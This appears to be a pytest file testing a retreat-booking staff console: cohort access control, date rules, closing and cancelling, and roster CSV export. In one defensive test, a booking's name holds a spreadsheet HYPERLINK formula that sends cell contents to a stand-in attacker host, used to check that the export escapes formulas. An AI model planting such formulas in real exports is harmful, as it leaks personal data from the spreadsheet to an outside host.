"""Coordinator console, cohorts: create under a program, change dates, close and reopen, cancel after seeing
whom it affects, and the roster on screen and as CSV (retreat/catalog/cohorts.py, retreat/staff/views/cohorts.py,
retreat/core/spreadsheets.py)."""

import csv
import io
from datetime import timedelta

import pytest
import sqlalchemy as sa

from retreat.booking import cohorts
from retreat.booking.models import Booking
from retreat.catalog import programs as catalog_programs
from retreat.catalog import services as catalog
from retreat.catalog.models import Cohort
from retreat.core import spreadsheets
from retreat.core.clock import today
from retreat.core.errors import DomainError, NotFound, ValidationFailed
from retreat.extensions import db
from tests.staff.test_programs_console import (
    OTHER_ROLES,
    add_booking,
    assert_error_at,
    audit_entries,
    console_actions,
    count,
    make_cohort,
    make_program,
    text_of,
)


def iso(days_ahead: int) -> str:
    return (today() + timedelta(days=days_ahead)).isoformat()


def fresh(cohort: Cohort) -> Cohort:
    db.session.expire_all()
    return db.session.get(Cohort, cohort.id)


def cohort_routes(program_id: int, cohort_id: int) -> list[tuple[str, str]]:
    return [
        ("GET", f"/staff/programs/{program_id}/cohorts/new"),
        ("POST", f"/staff/programs/{program_id}/cohorts/new"),
        ("GET", f"/staff/cohorts/{cohort_id}"),
        ("POST", f"/staff/cohorts/{cohort_id}/dates"),
        ("POST", f"/staff/cohorts/{cohort_id}/capacity"),
        ("POST", f"/staff/cohorts/{cohort_id}/close"),
        ("POST", f"/staff/cohorts/{cohort_id}/reopen"),
        ("GET", f"/staff/cohorts/{cohort_id}/cancel"),
        ("POST", f"/staff/cohorts/{cohort_id}/cancel"),
        ("GET", f"/staff/cohorts/{cohort_id}/roster"),
        ("GET", f"/staff/cohorts/{cohort_id}/roster.csv"),
    ]


# --- Access -----------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("role", OTHER_ROLES)
def test_other_roles_are_refused_every_cohort_route(client, login_as, role):
    cohort = make_cohort()
    add_booking(cohort, first="Private", last="Person")
    login_as(role)
    data = {"start_date": iso(40), "capacity": "3", "acknowledge": "y", "fingerprint": ""}
    for method, url in cohort_routes(cohort.program_id, cohort.id):
        response = client.open(url, method=method, data=data)
        assert response.status_code == 403, (method, url)
        assert "Private" not in response.get_data(as_text=True)
    assert count(Cohort) == 1
    assert fresh(cohort).status == "open" and fresh(cohort).capacity == 8
    assert console_actions() == ["program.create", "cohort.create"]


def test_anonymous_visitors_are_sent_to_sign_in(client):
    cohort = make_cohort()
    for method, url in cohort_routes(cohort.program_id, cohort.id):
        response = client.open(url, method=method, data={})
        assert response.status_code == 302, (method, url)
        assert response.headers["Location"].startswith("/staff/login"), (method, url)


@pytest.mark.parametrize("role", ["coordinator", "admin"])
def test_coordinators_and_admins_see_the_cohort_pages(client, login_as, role):
    cohort = make_cohort()
    login_as(role)
    for method, url in cohort_routes(cohort.program_id, cohort.id):
        if method == "GET":
            response = client.get(url)
            assert response.status_code == 200, url
            assert response.headers["Cache-Control"] == "no-store", url


def test_state_changes_are_post_only(client, login_as):
    cohort = make_cohort()
    login_as("coordinator")
    for action in ("dates", "capacity", "close", "reopen"):
        assert client.get(f"/staff/cohorts/{cohort.id}/{action}").status_code == 405
    assert fresh(cohort).status == "open"


def test_an_unknown_cohort_is_not_found(client, login_as):
    login_as("coordinator")
    for url in ("/staff/cohorts/98765", "/staff/cohorts/98765/roster", "/staff/cohorts/98765/roster.csv",
                "/staff/cohorts/98765/cancel", "/staff/programs/98765/cohorts/new"):
        assert client.get(url).status_code == 404, url
    assert client.post("/staff/cohorts/98765/capacity", data={"capacity": "3"}).status_code == 404


# --- Creating ---------------------------------------------------------------------------------------------------

def test_creating_a_cohort_sets_its_end_from_the_program_length(client, login_as):
    program = make_program(duration_days=10, dosing_sessions=5, integration_sessions=5)
    user = login_as("coordinator")
    response = client.post(f"/staff/programs/{program.id}/cohorts/new",
                           data={"start_date": iso(30), "end_date": iso(55), "capacity": "9"})
    assert response.status_code == 303
    cohort = db.session.scalar(sa.select(Cohort))
    assert response.headers["Location"] == f"/staff/cohorts/{cohort.id}"
    assert cohort.end_date - cohort.start_date == timedelta(days=9)  # a posted last day is not the form's
    assert (cohort.capacity, cohort.status) == (9, "open")
    [entry] = audit_entries("cohort.create")
    assert (entry.actor_email, entry.target_type, entry.target_id) == (user.email, "cohort", str(cohort.id))
    assert entry.details == {"program": program.slug, "start_date": iso(30), "end_date": iso(39), "capacity": 9}
    assert "Dates added" in text_of(client.get(response.headers["Location"]))


def test_the_cohort_forms_ask_only_the_first_day_and_say_how_long_the_dates_last(client, login_as):
    """A form does not offer a field it would refuse: the last day follows from the program's length."""
    program = make_program(duration_days=14, dosing_sessions=6, integration_sessions=6)
    cohort = make_cohort(program)
    login_as("coordinator")
    for url in (f"/staff/programs/{program.id}/cohorts/new", f"/staff/cohorts/{cohort.id}"):
        html = client.get(url).get_data(as_text=True)
        assert 'name="start_date"' in html, url
        assert 'name="end_date"' not in html, url
        assert "The program lasts 14 days, so the last day is set for you: 13 days after the first." in \
            text_of(client.get(url)), url


# Program length x the last day asked for: None sets it, the right day is accepted, any other is refused by name.
LENGTH_CASES = [
    (7, None, 6), (7, 6, 6), (10, None, 9), (10, 9, 9), (14, None, 13), (14, 13, 13),
    (14, 2, "refused"),    # a 3-day cohort of a two-week program
    (14, 25, "refused"),   # a 26-day one
    (14, 12, "refused"), (14, 14, "refused"), (7, 13, "refused"), (7, -1, "refused"),
]


@pytest.mark.parametrize(("days", "last_after", "expected"), LENGTH_CASES)
def test_a_new_cohort_lasts_its_program_length(app, days, last_after, expected):
    program = make_program(duration_days=days, dosing_sessions=4, integration_sessions=4)
    start = today() + timedelta(days=30)
    end = None if last_after is None else start + timedelta(days=last_after)
    if expected == "refused":
        assert cohorts.cohort_problems(program.id, start, end, 8).keys() == {"end_date"}
        with pytest.raises(ValidationFailed) as refusal:
            cohorts.create_cohort(program.id, start, end, 8)
        [reason] = refusal.value.fields["end_date"]
        assert reason.startswith(f"The program lasts {days} days, so dates starting ")
        assert count(Cohort) == 0
    else:
        cohort = cohorts.create_cohort(program.id, start, end, 8)
        assert (cohort.end_date - cohort.start_date).days == expected
        assert cohorts.fits_program(cohort)


@pytest.mark.parametrize(("days", "last_after", "expected"), LENGTH_CASES)
def test_changed_dates_last_the_program_length(app, days, last_after, expected):
    program = make_program(duration_days=days, dosing_sessions=4, integration_sessions=4)
    cohort = make_cohort(program, days_ahead=30)
    start = today() + timedelta(days=40)
    end = None if last_after is None else start + timedelta(days=last_after)
    if expected == "refused":
        with pytest.raises(ValidationFailed) as refusal:
            cohorts.update_cohort(cohort.id, start, end)
        assert refusal.value.fields.keys() == {"end_date"}
        assert fresh(cohort).start_date == today() + timedelta(days=30)
    else:
        cohorts.update_cohort(cohort.id, start, end)
        assert (fresh(cohort).start_date, (fresh(cohort).end_date - start).days) == (start, expected)


def test_dates_saved_before_the_rule_are_shown_and_fixed_by_saving_the_first_day(client, login_as):
    """A 26-day cohort of a two-week program (made before the rule): the public does not see it, nobody can book
    it at a price of other nights, the coordinator is told, and saving its first day sets the right last day."""
    program = make_program(duration_days=14, dosing_sessions=6, integration_sessions=6)
    catalog_programs.set_published(program.id, True)
    cohort = make_cohort(program, days_ahead=30)
    cohort.end_date = cohort.start_date + timedelta(days=25)
    db.session.commit()
    catalog.forget_cached_catalog()
    assert catalog.published_program(program.slug).cohorts == ()
    login_as("coordinator")
    page = text_of(client.get(f"/staff/cohorts/{cohort.id}"))
    assert "These dates last 26 days, but the program lasts 14" in page
    response = client.post(f"/staff/cohorts/{cohort.id}/dates", data={"start_date": iso(30)})
    assert response.status_code == 303
    assert (fresh(cohort).end_date - fresh(cohort).start_date).days == 13
    assert "These dates last" not in text_of(client.get(f"/staff/cohorts/{cohort.id}"))
    assert [c.id for c in catalog.published_program(program.slug).cohorts] == [cohort.id]


@pytest.mark.parametrize(("data", "field", "message"), [
    ({"start_date": "", "capacity": "8"}, "start_date", "Give the first day."),
    ({"start_date": "next monday", "capacity": "8"}, "start_date", "Give a date as year-month-day"),
    ({"start_date": iso(-1), "capacity": "8"}, "start_date", "Choose a first day from today on."),
    ({"start_date": iso(4000), "capacity": "8"}, "start_date", "within the next 3 years"),
    ({"start_date": iso(30), "capacity": ""}, "capacity", "Give the number of seats."),
    ({"start_date": iso(30), "capacity": "eight"}, "capacity", "Give a whole number."),
    ({"start_date": iso(30), "capacity": "0"}, "capacity", "A cohort has 1 to 200 seats."),
    ({"start_date": iso(30), "capacity": "201"}, "capacity", "A cohort has 1 to 200 seats."),
    ({"start_date": iso(30), "capacity": "-3"}, "capacity", "A cohort has 1 to 200 seats."),
])
def test_invalid_cohorts_are_refused_next_to_the_field_and_nothing_is_written(client, login_as, data, field,
                                                                                message):
    program = make_program()
    login_as("coordinator")
    response = client.post(f"/staff/programs/{program.id}/cohorts/new", data=data)
    assert response.status_code == 422
    assert_error_at(response, field, message)
    assert count(Cohort) == 0
    assert console_actions() == ["program.create"]


def test_every_problem_shows_at_once(client, login_as):
    program = make_program()
    login_as("coordinator")
    response = client.post(f"/staff/programs/{program.id}/cohorts/new",
                           data={"start_date": "soon", "capacity": "0"})
    assert response.status_code == 422
    assert_error_at(response, "start_date", "Give a date as year-month-day")
    assert_error_at(response, "capacity", "A cohort has 1 to 200 seats.")
    assert "Give the first day." not in text_of(response)
    assert count(Cohort) == 0


def test_starting_today_is_allowed(app):
    program = make_program()
    assert cohorts.create_cohort(program.id, today(), None, 4).start_date == today()


# --- The cohort page, dates, closing and reopening -----------------------------------------------------------

def test_the_cohort_page_shows_seats_and_bookings(client, login_as):
    cohort = make_cohort(capacity=6)
    add_booking(cohort, "confirmed")
    add_booking(cohort, "paid_in_full")
    add_booking(cohort, "held")
    add_booking(cohort, "held", hold_minutes=-1)
    add_booking(cohort, "declined")
    login_as("coordinator")
    page = text_of(client.get(f"/staff/cohorts/{cohort.id}"))
    assert "Taken 3 (of which 1 held for applicants still in screening)" in page
    assert "Left 3" in page
    assert "1 paid in full, 1 confirmed, 2 seat held" in page
    detail = cohorts.cohort_for_staff(cohort.id)
    assert (detail.taken, detail.seats_left, detail.live_holds, detail.active_bookings) == (3, 3, 1, 4)


def test_changing_dates_is_saved_and_audited(client, login_as):
    cohort = make_cohort(days_ahead=30)
    login_as("coordinator")
    response = client.post(f"/staff/cohorts/{cohort.id}/dates", data={"start_date": iso(37)})
    assert response.status_code == 303
    cohort = fresh(cohort)
    assert (cohort.start_date.isoformat(), cohort.end_date.isoformat()) == (iso(37), iso(43))
    [entry] = audit_entries("cohort.update")
    assert entry.details == {"changes": {"start_date": {"from": iso(30), "to": iso(37)},
                                         "end_date": {"from": iso(36), "to": iso(43)}}}


def test_invalid_dates_are_refused_next_to_the_field(client, login_as):
    cohort = make_cohort(days_ahead=30)
    login_as("coordinator")
    response = client.post(f"/staff/cohorts/{cohort.id}/dates", data={"start_date": iso(-2)})
    assert response.status_code == 422
    assert_error_at(response, "start_date", "Choose a first day from today on.")
    assert fresh(cohort).end_date.isoformat() == iso(36)
    assert not audit_entries("cohort.update")


def test_dates_cannot_move_under_booked_applicants(client, login_as):
    cohort = make_cohort(days_ahead=30)
    add_booking(cohort, "pending_review")
    add_booking(cohort, "cancelled")
    login_as("coordinator")
    response = client.post(f"/staff/cohorts/{cohort.id}/dates", data={"start_date": iso(31)})
    assert response.status_code == 422
    assert_error_at(response, "start_date", "1 applicant is booked on these dates")
    assert fresh(cohort).start_date.isoformat() == iso(30)
    assert not audit_entries("cohort.update")
    # Saving the same dates is harmless.
    assert cohorts.update_cohort(cohort.id, fresh(cohort).start_date, None) == {}


def test_a_started_cohort_keeps_its_start(app, time_machine):
    cohort = make_cohort(days_ahead=2)
    start = cohort.start_date
    time_machine.move_to(today() + timedelta(days=4))
    assert cohorts.update_cohort(cohort.id, start) == {}
    with pytest.raises(ValidationFailed) as refusal:
        cohorts.update_cohort(cohort.id, start + timedelta(days=1))  # a new start must not be in the past
    assert refusal.value.fields == {"start_date": ["Choose a first day from today on."]}


def test_closing_and_reopening(client, login_as):
    program = make_program()
    cohort = make_cohort(program)
    catalog_programs.set_published(program.id, True)
    add_booking(cohort, "confirmed")
    login_as("coordinator")

    response = client.post(f"/staff/cohorts/{cohort.id}/close")
    assert response.status_code == 303
    assert "Closed to new bookings" in text_of(client.get(response.headers["Location"]))
    assert fresh(cohort).status == "closed"
    assert client.get("/api/v1/programs/" + program.slug).get_json()["cohorts"][0]["status"] == "closed"
    assert db.session.scalar(sa.select(Booking.status)) == "confirmed"

    response = client.post(f"/staff/cohorts/{cohort.id}/close", follow_redirects=True)
    assert "it cannot be closed" in text_of(response)

    response = client.post(f"/staff/cohorts/{cohort.id}/reopen")
    assert response.status_code == 303
    assert fresh(cohort).status == "open"
    assert [(e.action, e.details) for e in audit_entries() if e.action in ("cohort.close", "cohort.reopen")] == [
        ("cohort.close", {"from": "open", "to": "closed"}), ("cohort.reopen", {"from": "closed", "to": "open"})]


def test_an_ended_cohort_cannot_reopen(app, time_machine):
    cohort = make_cohort(days_ahead=1)
    cohorts.close_cohort(cohort.id)
    time_machine.move_to(today() + timedelta(days=30))
    with pytest.raises(DomainError, match="has ended"):
        cohorts.reopen_cohort(cohort.id)
    assert fresh(cohort).status == "closed"


def test_services_refuse_an_unknown_cohort_and_release_the_lock(app):
    with pytest.raises(NotFound):
        cohorts.set_capacity(123456, 4)
    assert not db.session().in_transaction()
    with pytest.raises(NotFound):
        cohorts.close_cohort(123456)
    assert not db.session().in_transaction()


# --- Cancelling -------------------------------------------------------------------------------------------------

def booked_cohort() -> Cohort:
    program = make_program()
    catalog_programs.set_published(program.id, True)
    cohort = make_cohort(program, capacity=8)
    add_booking(cohort, "confirmed", first="Ana", last="Lopez", email="ana@example.org", phone="+1 555 0101")
    add_booking(cohort, "paid_in_full", first="Ben", last="Okafor")
    add_booking(cohort, "held", first="Cai", last="Wong")
    add_booking(cohort, "pending_review", first="Dee", last="Park")
    add_booking(cohort, "cancelled", first="Eli", last="Gone")
    add_booking(cohort, "declined", first="Fay", last="Declined")
    return cohort


def test_the_cancellation_page_shows_whom_it_affects_before_anything_changes(client, login_as):
    cohort = booked_cohort()
    login_as("coordinator")
    response = client.get(f"/staff/cohorts/{cohort.id}/cancel")
    assert response.status_code == 200
    page = text_of(response)
    assert "4 bookings: 1 paid in full, 1 confirmed, 1 awaiting clinician review, 1 seat held." in page
    for name in ("Ana Lopez", "Ben Okafor", "Cai Wong", "Dee Park"):
        assert name in page
    assert "Eli Gone" not in page and "Fay Declined" not in page
    assert "ana@example.org" in page and "+1 555 0101" in page
    assert "must contact each applicant" in page
    assert "no money is refunded by this step" in page
    assert fresh(cohort).status == "open"
    assert console_actions()[-1] == "cohort.create"


def test_cancelling_needs_the_acknowledgement_when_applicants_are_booked(client, login_as):
    cohort = booked_cohort()
    login_as("coordinator")
    fingerprint = cohorts.cohort_cancellation_preview(cohort.id).fingerprint
    response = client.post(f"/staff/cohorts/{cohort.id}/cancel", data={"fingerprint": fingerprint})
    assert response.status_code == 422
    assert_error_at(response, "acknowledge", "Confirm that the clinic will contact these applicants.")
    assert fresh(cohort).status == "open"
    assert not audit_entries("cohort.cancel")


def test_a_booking_made_after_the_preview_stops_the_cancellation(client, login_as):
    cohort = booked_cohort()
    login_as("coordinator")
    seen = cohorts.cohort_cancellation_preview(cohort.id).fingerprint
    add_booking(cohort, "held", first="Gus", last="Late")
    response = client.post(f"/staff/cohorts/{cohort.id}/cancel",
                           data={"fingerprint": seen, "acknowledge": "y"})
    assert response.status_code == 409
    page = text_of(response)
    assert "changed since the list was shown" in page
    assert "Gus Late" in page
    assert fresh(cohort).status == "open"
    assert not audit_entries("cohort.cancel")


def test_cancelling_marks_the_cohort_only_and_lists_whom_to_contact(client, login_as):
    cohort = booked_cohort()
    program = cohort.program
    before = {ref: status for ref, status in db.session.execute(sa.select(Booking.reference, Booking.status))}
    user = login_as("coordinator")
    fingerprint = cohorts.cohort_cancellation_preview(cohort.id).fingerprint
    response = client.post(f"/staff/cohorts/{cohort.id}/cancel", data={
        "fingerprint": fingerprint, "acknowledge": "y", "reason": "The house flooded."})
    assert response.status_code == 303
    assert fresh(cohort).status == "cancelled"
    after = {ref: status for ref, status in db.session.execute(sa.select(Booking.reference, Booking.status))}
    assert after == before, "bookings are not changed by cancelling the cohort"

    [entry] = audit_entries("cohort.cancel")
    assert entry.actor_email == user.email
    assert entry.details["affected"] == {"paid_in_full": 1, "confirmed": 1, "pending_review": 1, "held": 1}
    assert entry.details["reason"] == "The house flooded."
    assert sorted(entry.details["references"]) == sorted(
        ref for ref, status in before.items() if status not in ("cancelled", "declined"))

    page = text_of(client.get(response.headers["Location"]))
    assert "4 applicants must be contacted" in page
    assert "Applicants to contact" in page and "Ana Lopez" in page and "Dee Park" in page
    assert "Save seats" not in page and "Close to new bookings" not in page
    listed = client.get(f"/api/v1/programs/{program.slug}").get_json()["cohorts"]
    assert cohort.id not in [c["id"] for c in listed]


def test_a_cancelled_cohort_cannot_change(client, login_as):
    cohort = make_cohort()
    cohorts.cancel_cohort(cohort.id)
    for change in (lambda: cohorts.set_capacity(cohort.id, 3), lambda: cohorts.close_cohort(cohort.id),
                   lambda: cohorts.reopen_cohort(cohort.id), lambda: cohorts.cancel_cohort(cohort.id),
                   lambda: cohorts.update_cohort(cohort.id, today() + timedelta(days=60), None)):
        with pytest.raises(DomainError):
            change()
        assert not db.session().in_transaction()
    login_as("coordinator")
    response = client.post(f"/staff/cohorts/{cohort.id}/capacity", data={"capacity": "3"}, follow_redirects=True)
    assert "cancelled; it can no longer change" in text_of(response)
    response = client.get(f"/staff/cohorts/{cohort.id}/cancel", follow_redirects=True)
    assert "cancelled already" in text_of(response)
    assert console_actions().count("cohort.cancel") == 1
    assert fresh(cohort).capacity == 8


def test_a_cohort_without_bookings_cancels_without_acknowledgement(client, login_as):
    cohort = make_cohort()
    login_as("admin")
    page = text_of(client.get(f"/staff/cohorts/{cohort.id}/cancel"))
    assert "No applicant is booked on these dates." in page
    fingerprint = cohorts.cohort_cancellation_preview(cohort.id).fingerprint
    response = client.post(f"/staff/cohorts/{cohort.id}/cancel", data={"fingerprint": fingerprint})
    assert response.status_code == 303
    assert fresh(cohort).status == "cancelled"
    assert audit_entries("cohort.cancel")[0].details["affected"] == {}


def test_a_cancellation_without_the_preview_is_refused(client, login_as):
    cohort = make_cohort()
    login_as("coordinator")
    response = client.post(f"/staff/cohorts/{cohort.id}/cancel", data={"acknowledge": "y"})
    assert response.status_code == 409
    assert fresh(cohort).status == "open"


def test_a_too_long_reason_is_refused(client, login_as):
    cohort = make_cohort()
    login_as("coordinator")
    fingerprint = cohorts.cohort_cancellation_preview(cohort.id).fingerprint
    response = client.post(f"/staff/cohorts/{cohort.id}/cancel", data={"fingerprint": fingerprint,
                                                                        "reason": "x" * 501})
    assert response.status_code == 422
    assert_error_at(response, "reason", "500")
    assert fresh(cohort).status == "open"
    with pytest.raises(ValidationFailed):
        cohorts.cancel_cohort(cohort.id, reason="x" * 501)
    with pytest.raises(ValidationFailed):
        cohorts.cancel_cohort(cohort.id, reason="nul\x00")
    assert fresh(cohort).status == "open"


# --- Roster -----------------------------------------------------------------------------------------------------

ROSTER_HEADER = ["Reference", "First name", "Last name", "Email", "Phone", "Booking status", "Lodging",
                 "Booked at (UTC)", "Room"]


def read_csv(response) -> list[list[str]]:
    body = response.get_data()
    assert body.startswith(b"\xef\xbb\xbf"), "UTF-8 with a byte-order mark, for Excel"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def test_the_roster_shows_names_contact_and_status_only(client, login_as):
    cohort = booked_cohort()
    login_as("coordinator")
    response = client.get(f"/staff/cohorts/{cohort.id}/roster")
    assert response.status_code == 200
    page = text_of(response)
    assert "health answers are never shown" in page
    order = [page.index(name) for name in ("Ben Okafor", "Ana Lopez", "Dee Park", "Cai Wong", "Eli Gone",
                                           "Fay Declined")]
    assert order == sorted(order), "booked first, then pending, then the rest"
    assert "Awaiting clinician review" in page and "Paid in full" in page
    # A roster row carries exactly these facts: nothing from screening (money, for what is owed).
    assert [field for field in cohorts.RosterRow.__dataclass_fields__] == [
        "reference", "first_name", "last_name", "email", "phone", "status", "lodging", "created_at",
        "hold_expires_at", "total_cents", "received_cents", "room"]
    assert not console_actions().count("cohort.roster_export")


def test_the_roster_csv_lists_every_booking_and_is_audited(client, login_as):
    cohort = booked_cohort()
    user = login_as("coordinator")
    response = client.get(f"/staff/cohorts/{cohort.id}/roster.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="roster-{cohort.program.slug}-{cohort.start_date.isoformat()}.csv"')
    assert response.headers["Cache-Control"] == "no-store"
    rows = read_csv(response)
    assert rows[0] == ROSTER_HEADER
    assert [(r[1], r[2], r[5]) for r in rows[1:]] == [
        ("Ben", "Okafor", "Paid in full"), ("Ana", "Lopez", "Confirmed"), ("Dee", "Park", "Awaiting clinician review"),
        ("Cai", "Wong", "Seat held"), ("Eli", "Gone", "Cancelled"), ("Fay", "Declined", "Declined")]
    ana = rows[2]
    assert ana[0].startswith("RT-") and ana[3] == "ana@example.org" and ana[6] == "Shared room"
    assert ana[4] == "'+1 555 0101", "a phone number starting with + is kept as text"
    [entry] = audit_entries("cohort.roster_export")
    assert (entry.actor_email, entry.target_id) == (user.email, str(cohort.id))
    assert entry.details["rows"] == 6


def test_the_roster_csv_neutralises_formulas(client, login_as):
    cohort = make_cohort()
    add_booking(cohort, first='=HYPERLINK("http://evil.example/?leak="&A1, "Click me")', last="@SUM(A1:A9)",
                email="-2+3@example.org", phone="+1 555 0100")
    add_booking(cohort, first="\tTabbed", last="\rReturned")
    add_booking(cohort, first="Plain", last="O'Neil-Smith")
    login_as("coordinator")
    rows = read_csv(client.get(f"/staff/cohorts/{cohort.id}/roster.csv"))
    by_last = {row[2]: row for row in rows[1:]}
    evil = by_last["'@SUM(A1:A9)"]
    assert evil[1] == '\'=HYPERLINK("http://evil.example/?leak="&A1, "Click me")'
    assert evil[3] == "'-2+3@example.org"
    assert by_last["'\rReturned"][1] == "'\tTabbed"
    assert by_last["O'Neil-Smith"][1] == "Plain", "text that only contains the characters is left alone"
    for row in rows[1:]:
        for value in row:
            assert not value.startswith(spreadsheets.FORMULA_TRIGGERS), value


def test_an_empty_roster_exports_its_header(client, login_as):
    cohort = make_cohort()
    login_as("admin")
    page = text_of(client.get(f"/staff/cohorts/{cohort.id}/roster"))
    assert "No bookings yet." in page
    assert read_csv(client.get(f"/staff/cohorts/{cohort.id}/roster.csv")) == [ROSTER_HEADER]


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+2", "'=1+2"), ("+1 555", "'+1 555"), ("-5", "'-5"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("a=1", "a=1"), ("", ""), ("Ünïcode", "Ünïcode"), (None, ""), (-12, "-12"), (3.5, "3.5"), (True, "yes"),
])
def test_spreadsheet_cells(value, expected):
    assert spreadsheets.cell(value) == expected


def test_spreadsheet_csv_quotes_and_line_ends():
    data = spreadsheets.csv_bytes(["a", "=b"], [['x, "y"', "line\nbreak"]])
    assert data == '\ufeffa,\'=b\r\n"x, ""y""","line\nbreak"\r\n'.encode()
